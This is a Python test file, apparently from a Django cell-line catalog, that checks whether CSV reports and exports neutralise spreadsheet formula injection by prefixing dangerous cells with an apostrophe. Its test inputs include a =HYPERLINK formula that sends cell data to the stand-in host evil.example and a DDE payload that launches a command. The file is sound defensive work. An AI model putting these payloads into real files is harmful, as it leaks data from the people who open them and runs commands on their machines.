"""Every CSV the catalog writes defuses spreadsheet formulas (core.spreadsheets): the
submission report's `=HYPERLINK(...)` in a depositor's local id reached a curator's
spreadsheet; the exports already quoted it."""

import csv
import io

import pytest

from core.spreadsheets import from_spreadsheet_safe, spreadsheet_safe
from lines.submissions.formats import document_to_csv_zip, parse_upload
from tests.conftest import client_for
from tests.submission_helpers import SUBMISSIONS_URL, submission_document

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    "value, written",
    [
        (ATTACK, "'" + ATTACK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("-0.5", "-0.5"),
        ("+44", "+44"),
        ("SOD1 A4V", "SOD1 A4V"),
        (None, ""),
    ],
)
def test_formula_cells_are_quoted_and_numbers_are_not(value, written):
    assert spreadsheet_safe(value) == written
    assert from_spreadsheet_safe(written) == ("" if value is None else value)


def test_the_submission_report_csv_quotes_a_formula_in_a_local_id(depositor, submit):
    document = submission_document(1)
    document["lines"][0]["local_id"] = ATTACK
    pk = submit(document).json()["id"]
    response = client_for(depositor).get(f"{SUBMISSIONS_URL}{pk}/report.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows, "the document should have findings (a local id with a formula is odd)"
    cells = [cell for row in rows for cell in row.values()]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)


def test_the_str_batch_csv_quotes_a_formula_in_a_sample_name(researcher):
    content = (
        "Sample Name,TH01,D5S818,D13S317,D7S820,D16S539,CSF1PO,TPOX,vWA\n"
        f'"{ATTACK.replace(chr(34), chr(34) * 2)}",6,11,12,10,9,12,8,17\n'
    ).encode()
    upload = io.BytesIO(content)
    upload.name = "batch.csv"
    response = client_for(researcher).post("/api/v1/str/batch/", {"file": upload, "output": "csv"}, format="multipart")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows[0]["sample"] == "'" + ATTACK


def test_the_csv_template_round_trip_keeps_a_formula_like_value():
    document = submission_document(1)
    document["lines"][0]["local_id"] = "=L1"
    parsed, _ = parse_upload(io.BytesIO(document_to_csv_zip(document)), "csv")
    assert parsed["lines"][0]["local_id"] == "=L1"
